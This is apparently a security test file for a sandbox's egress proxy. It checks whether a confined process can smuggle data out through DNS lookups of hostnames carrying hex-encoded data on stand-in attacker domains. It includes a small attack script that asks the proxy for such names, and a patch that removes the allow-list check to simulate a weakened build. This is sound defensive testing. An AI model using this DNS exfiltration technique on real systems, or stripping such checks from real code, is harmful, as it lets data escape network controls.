import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { fileURLToPath } from 'node:url'
import type { TestContext } from 'vitest'
import type { Build } from '../src/attacks/build.ts'
import { openCaptive } from '../src/attacks/captive.ts'
import { describeAttack } from '../src/attacks/describe-attack.ts'
import { readQuestion } from '@toolhaven/testing/dns-question'
import { startDaemon } from '../src/daemon-process.ts'
import { usePlatform } from '../src/platform.ts'

const WRAPPER = fileURLToPath(new URL('../src/attacks/with-resolver.ts', import.meta.url))

/** A loopback address that nobody else uses, because the port cannot be chosen. */
const ADDRESS = `127.${(process.pid >> 16) & 255}.${(process.pid >> 8) & 255}.${process.pid & 255}`

/** Records the names that it is asked for, and knows none. */
async function openResolver(context: TestContext) {
  const names: string[] = []
  const socket = createSocket('udp4')
  socket.on('message', (message, from) => {
    names.push(readQuestion(message).name)
    const answer = Buffer.from(message)
    // An answer that says: no such name.
    answer.writeUInt16BE(0x81_83, 2)
    socket.send(answer, from.port, from.address)
  })
  socket.bind(53, ADDRESS)
  await once(socket, 'listening').catch(() => context.skip('port 53 of the loopback needs root'))
  return { names, [Symbol.asyncDispose]: async () => void socket.close() }
}

/** The daemon asks our resolver for names. Everything else is unchanged. */
const asking = (build: Build): Build => ({
  ...build,
  start: (home, args) => startDaemon(home, args, [WRAPPER, home.dir, ADDRESS, ...build.program]),
})

/** Asks the proxy for a way to each place: a tunnel where it has a port, a page where it has none. */
const ASK = `
const http = require('node:http'), proxy = new URL(process.env.HTTP_PROXY)
const ask = (place) => new Promise((done) => http
  .request({ host: proxy.hostname, port: proxy.port, agent: false,
    ...(place.includes(':') ? { method: 'CONNECT', path: place } : { path: 'http://' + place + '/', headers: { host: place } }) })
  .on('connect', done).on('response', done).on('error', done).end())
Promise.all(process.argv.slice(1).map(ask)).then(() => { console.log('done'); process.exit() })`

const platform = usePlatform('process')

describeAttack('names that carry data, asked of the proxy', {
  defence: 'the judgement before a name is looked up',
  weaknesses: [
    {
      file: 'packages/egress/src/dial.ts',
      find: 'if (!verdict.isAllowed) throw new Unlisted(verdict.reason)',
      replace: '',
    },
  ],
  attack: async (build, context) => {
    const here = platform(context)
    await using resolver = await openResolver(context)
    const outbound = { allow_host: ['api.example', '*.cdn.example'] }
    await using captive = await openCaptive(asking(build), here, { permission_profile: { network: { outbound } } })
    const places = {
      'a tunnel to a name of the attacker': '736563.tunnel.example:443',
      'a page of a name of the attacker': '72657421.tunnel.example',
      'a name below one that is listed': '6b6579.api.example:443',
      'a listed name as the beginning of another': 'api.example.6f6e65.example:443',
      'a name below a wildcard, at another port': '74776f.cdn.example:8443',
    }
    const said = (await captive.run('node', '-e', ASK, ...Object.values(places), 'control.cdn.example:443')).trim()
    // A listed name is looked up in both builds: the resolver can see names.
    if (said !== 'done' || !resolver.names.includes('control.cdn.example'))
      throw new Error(`the attacker said ${said}, the resolver saw ${resolver.names.join(', ')}`)
    const isAsked = (place: string) => resolver.names.includes(place.replace(/:\d+$/, ''))
    return Object.fromEntries(Object.entries(places).map(([name, place]) => [name, isAsked(place)]))
  },
})
